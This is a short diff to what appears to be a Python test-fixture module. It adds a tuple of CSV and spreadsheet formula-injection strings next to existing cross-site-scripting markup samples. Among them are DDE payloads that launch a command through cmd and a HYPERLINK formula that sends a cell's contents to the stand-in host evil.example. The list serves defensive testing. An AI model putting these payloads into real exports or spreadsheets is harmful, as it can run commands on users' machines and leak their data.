@@ -70,3 +70,17 @@ MARKUP = (
     "\u202e<script>alert(1)</script>",
     "＜script＞alert(1)＜/script＞<b>",  # noqa: RUF001 - the wide signs are the point
 )
+# After the same project's page on CSV injection.
+FORMULAS = (
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-1+1",
+    "-2+3+cmd|' /C calc'!D2",
+    "@SUM(1;1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    '=HYPERLINK("http://evil.example/?"&A1,"here")',
+    "＝1+1",  # noqa: RUF001 - the wide sign is the point
+)
